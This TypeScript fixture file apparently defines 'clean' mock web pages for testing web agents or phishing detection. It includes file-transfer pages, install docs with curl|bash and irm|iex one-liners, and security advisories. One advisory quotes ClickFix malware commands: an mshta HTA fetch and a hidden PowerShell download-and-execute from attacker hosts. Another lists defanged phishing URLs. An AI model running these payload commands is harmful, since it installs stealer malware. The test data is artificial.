import { type Entry, redirectRoute } from '../entry.js';
import { doc, gtag, gtagRoute, cookieBar, js, json, html } from '../parts/zo-kit.js';
import { pngRoute, fileRoute, zip } from '../parts/e-bin.js';

const copyJs = `document.querySelectorAll('[data-copy]').forEach(function(b){b.addEventListener('click',function(){var t=document.getElementById(b.dataset.copy).innerText;navigator.clipboard.writeText(t).then(function(){b.textContent='Copied!';setTimeout(function(){b.textContent='Copy'},1500)});});});`;

export const entries: Entry[] = [
  {
    id: 'zo-clean-dropbox-transfer-download',
    label: 'clean',
    kind: 'doc-share',
    url: 'https://www.dropbox.com/t/Xq8lP2vN7cR4aB1m',
    body: doc('Dropbox Transfer', `
<header style="border-bottom:1px solid #eee"><b style="color:#0061fe">Dropbox</b> <span style="float:right"><a href="https://www.dropbox.com/login">Log in</a> · <a href="#">Sign up</a></span></header>
<main style="max-width:520px;text-align:center">
 <h1 style="font-size:22px">Studio Kettering sent you files</h1>
 <p style="color:#637282">Final_Brand_Assets_v2 · 4 files · 186 MB · Expires Dec 6, 2026</p>
 <ul style="text-align:left;font-size:14px"><li>Logo_Primary.ai</li><li>Logo_Secondary.svg</li><li>Brand_Guidelines_2027.pdf</li><li>Photography_Selects.zip</li></ul>
 <p><a class="btn" style="background:#0061fe" href="/t/Xq8lP2vN7cR4aB1m/download">Download</a></p>
 <p style="font-size:13px">"Here are the final files – thanks for a great project! – Anna"</p>
</main>
<footer>Dropbox Transfer · Privacy · Terms · Report abuse</footer>`),
    routes: { 'www.dropbox.com/t/Xq8lP2vN7cR4aB1m/download': fileRoute(zip([{ name: 'Final_Brand_Assets_v2/Brand_Guidelines_2027.pdf', data: '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\n%%EOF' }, { name: 'Final_Brand_Assets_v2/Logo_Secondary.svg', data: '<svg xmlns="http://www.w3.org/2000/svg"/>' }]), 'application/zip', 'Final_Brand_Assets_v2.zip') },
  },
  {
    id: 'zo-clean-wetransfer-download-page',
    label: 'clean',
    kind: 'doc-share',
    url: 'https://wetransfer.com/downloads/7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d20261129094512/e1f2a3',
    body: doc('WeTransfer', `
<div style="background:linear-gradient(135deg,#3b82f6,#9333ea);min-height:100vh;padding:60px">
<div style="width:320px;background:#fff;border-radius:10px;padding:24px">
 <h2 style="font-size:20px;margin-top:0">Ready when you are</h2>
 <p style="font-size:14px">Transfer expires in 6 days</p>
 <p style="font-size:14px"><b>Drone_Footage_Site_Survey_Raw</b><br>3 files · 2.1 GB</p>
 <p style="font-size:13px;color:#555">"Raw footage from Tuesday's survey at the Lyon site. Cheers, Pierre"</p>
 <p><a class="btn" style="background:#3767ea;width:100%;text-align:center;border-radius:20px" href="#">Download</a></p>
 <p style="font-size:12px"><a href="#">Preview</a></p>
</div></div>
${cookieBar('en')}`),
  },
  {
    id: 'zo-clean-devdocs-scoop-irm-iex',
    label: 'clean',
    kind: 'dev-docs-oneliner',
    url: 'https://scoop.sh/?q=python&s=0&d=1&o=true',
    body: doc('Scoop', `
<main style="max-width:760px">
 <h1>Scoop</h1><p>A command-line installer for Windows</p>
 <p>Open a PowerShell terminal (version 5.1 or later) and from the PS C:\\&gt; prompt, run:</p>
 <pre id="a">Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser
Invoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression</pre><button class="btn" data-copy="a">Copy</button>
 <p>This will install Scoop to its default location (<code>~\\scoop</code>).</p>
 <p>You can find the complete documentation about the installer, including advanced installation configurations, in <a href="https://github.com/ScoopInstaller/Install">ScoopInstaller/Install</a>.</p>
 <h3>Search</h3><input placeholder="Search apps, e.g. git, python, nodejs">
</main>
<footer>Scoop is open source. <a href="https://github.com/ScoopInstaller/Scoop">GitHub</a></footer>
<script>${copyJs}</script>`),
  },
  {
    id: 'zo-clean-devdocs-bun-install-tabs',
    label: 'clean',
    kind: 'dev-docs-oneliner',
    url: 'https://bun.sh/docs/installation?os=windows',
    body: doc('Installation – Bun Docs', `
<header style="border-bottom:1px solid #eee"><b>Bun</b> · Docs · Reference · Guides · Blog</header>
<main>
 <h1>Installation</h1><p>Bun ships as a single executable with no dependencies that can be installed a few different ways.</p>
 <div><button class="btn" onclick="t('mac')">macOS &amp; Linux</button> <button class="btn" onclick="t('win')">Windows</button> <button class="btn" onclick="t('npm')">npm</button></div>
 <pre id="cmd">curl -fsSL https://bun.sh/install | bash</pre><button class="btn" data-copy="cmd">Copy</button>
 <p><b>Windows:</b> Bun requires Windows 10 version 1809 or later.</p>
 <h3>Upgrading</h3><pre>bun upgrade</pre>
 <h3>Uninstall</h3><pre>rm -rf ~/.bun</pre>
</main>
<script>var C={mac:'curl -fsSL https://bun.sh/install | bash',win:'powershell -c "irm bun.sh/install.ps1 | iex"',npm:'npm install -g bun'};
function t(k){document.getElementById('cmd').textContent=C[k];}if(/Windows/.test(navigator.userAgent))t('win');
${copyJs}</script>`),
  },
  {
    id: 'zo-clean-devdocs-rustup-windows',
    label: 'clean',
    kind: 'dev-docs-oneliner',
    url: 'https://forge.rust-lang.org/infra/other-installation-methods.html',
    body: doc('Other Installation Methods - Rust Forge', `
<main style="max-width:700px">
 <h1>Other Installation Methods</h1>
 <p>The primary way that folks install Rust is through a tool called <b>rustup</b>, which is a Rust installer and version management tool.</p>
 <p id="win">To install Rust, download and run <a href="https://static.rust-lang.org/rustup/dist/x86_64-pc-windows-msvc/rustup-init.exe">rustup-init.exe</a> then follow the onscreen instructions.</p>
 <p>If you're a Windows Subsystem for Linux user run the following in your terminal, then follow the onscreen instructions to install Rust.</p>
 <pre id="u">curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh</pre><button class="btn" data-copy="u">Copy</button>
 <p style="font-size:13px">You appear to be running Windows 64-bit. If not, <a href="#">display all supported installers</a>.</p>
 <p style="font-size:13px">Need help? Ask on <a href="https://users.rust-lang.org">users.rust-lang.org</a>.</p>
</main>
<footer style="text-align:center">rustup is an official Rust project. <a href="#">other installation options</a> · <a href="#">about rustup</a></footer>
<script>${copyJs}</script>`),
  },
  {
    id: 'zo-clean-secblog-clickfix-analysis',
    label: 'clean',
    kind: 'security-blog-iocs',
    url: 'https://www.threatlabs-research.com/blog/clickfix-campaign-fake-recaptcha-lumma',
    body: doc('ClickFix campaign abuses fake reCAPTCHA to deliver Lumma Stealer | ThreatLabs Research', `
<header style="border-bottom:1px solid #eee"><b>ThreatLabs Research</b> · Blog · Reports · Advisories · Contact</header>
<main style="max-width:760px">
 <p style="font-size:13px;color:#6b7280">Threat Intelligence · November 21, 2026 · 9 min read</p>
 <h1>ClickFix campaign abuses fake reCAPTCHA to deliver Lumma Stealer</h1>
 <p>Since October we have tracked a campaign that injects a fake "I'm not a robot" dialog into compromised WordPress sites. When the visitor clicks the checkbox, the page copies a command to the clipboard and instructs the user to press <kbd>Win</kbd>+<kbd>R</kbd>, <kbd>Ctrl</kbd>+<kbd>V</kbd> and <kbd>Enter</kbd>.</p>
 <h2>Clipboard payload</h2>
 <p>The copied command observed on November 12 was:</p>
 <pre>mshta hxxps://cdn-verify[.]cloud/s/4417.hta # ✅ ''I am not a robot - reCAPTCHA Verification ID: 4417''</pre>
 <p>The HTA launches PowerShell, which retrieves a second stage:</p>
 <pre>powershell -w h -ep bypass -c "iex(irm 'hxxps://files-cdn[.]top/b.ps1')"</pre>
 <h2>Indicators of compromise</h2>
 <table border="1" cellpadding="6" style="border-collapse:collapse;font-size:13px"><tr><th>Type</th><th>Value</th></tr>
 <tr><td>Domain</td><td>cdn-verify[.]cloud</td></tr><tr><td>Domain</td><td>files-cdn[.]top</td></tr><tr><td>IP</td><td>185.156.72[.]14</td></tr>
 <tr><td>SHA-256</td><td>3f1a9c7e2b4d6f80a1c3e5b7d9f1a3c5e7b9d1f3a5c7e9b1d3f5a7c9e1b3d5f7</td></tr></table>
 <h2>Detection</h2><p>Hunt for <code>explorer.exe</code> spawning <code>mshta.exe</code> or <code>powershell.exe</code> with a RunMRU registry entry containing "robot" or "verification".</p>
</main>
<footer>© 2026 ThreatLabs Research. All rights reserved.</footer>`),
  },
  {
    id: 'zo-clean-ja-jpcert-phishing-advisory',
    label: 'clean',
    kind: 'security-blog-iocs',
    url: 'https://blogs.jpcert.or.jp/ja/2026/11/phishing-kit-trend.html',
    body: doc('2026年第3四半期のフィッシング動向 - JPCERT/CC Eyes', `
<header style="border-bottom:1px solid #ddd"><b>JPCERT/CC Eyes</b> JPCERTコーディネーションセンター公式ブログ</header>
<main style="max-width:760px">
 <p style="font-size:13px">2026年11月20日 · インシデント対応</p>
 <h1 style="font-size:24px">2026年第3四半期のフィッシング動向</h1>
 <p>今四半期は、クレジットカード会社や通販サイトを装ったフィッシングサイトの報告が引き続き多く寄せられました。特に、本人確認を装って「アカウントが一時停止されています」と表示し、ID・パスワードおよびカード情報を入力させる手口が目立ちます。</p>
 <h3>確認されたURLの例（一部無害化）</h3>
 <pre>hxxps://amazon-co-jp.account-verify[.]top/ap/signin
hxxps://smbc-card.secure-check[.]icu/login
hxxps://rakuten-member.update-info[.]cn/</pre>
 <p>これらのサイトでは、入力されたデータがTelegram Bot API経由で攻撃者に送信されていました。</p>
 <h3>対策</h3><ul><li>メールやSMSのリンクからログインしない</li><li>公式アプリやブックマークからアクセスする</li><li>多要素認証を有効にする</li></ul>
</main>
<footer>© JPCERT/CC</footer>`, { lang: 'ja' }),
  },
  {
    id: 'zo-clean-de-bsi-warnung-fake-update',
    label: 'clean',
    kind: 'security-blog-iocs',
    url: 'https://www.bsi.bund.de/DE/Service-Navi/Presse/Alle-Meldungen-News/Meldungen/Fake-Browser-Updates_261118.html',
    body: doc('BSI warnt vor gefälschten Browser-Updates', `
<header style="border-bottom:1px solid #ddd"><b>Bundesamt für Sicherheit in der Informationstechnik</b></header>
<main style="max-width:760px">
 <p style="font-size:13px">Pressemitteilung · 18.11.2026</p>
 <h1 style="font-size:24px">BSI warnt vor gefälschten Browser-Updates auf kompromittierten Webseiten</h1>
 <p>Das BSI beobachtet aktuell vermehrt Angriffe, bei denen legitime, aber kompromittierte Webseiten eine gefälschte Meldung einblenden: „Ihr Browser ist veraltet – bitte aktualisieren Sie Chrome". Der Download-Button liefert eine ZIP-Datei mit einem JavaScript- oder MSIX-Installer aus, der Schadsoftware nachlädt.</p>
 <h3>Empfehlungen</h3>
 <ul><li>Browser-Updates erfolgen automatisch oder über die Einstellungen des Browsers – niemals über eine Webseite.</li><li>Laden Sie keine Dateien namens „Chrome_Update.zip" oder „Update.js" herunter.</li><li>Kopieren Sie keine Befehle aus Webseiten in das Ausführen-Fenster (Windows + R).</li></ul>
 <p>Weitere Informationen und technische Indikatoren für IT-Sicherheitsverantwortliche finden Sie im <a href="#">CERT-Bund Lagebericht</a>.</p>
</main>
<footer>Impressum · Datenschutz · Barrierefreiheit · © BSI</footer>`, { lang: 'de' }),
  },
];
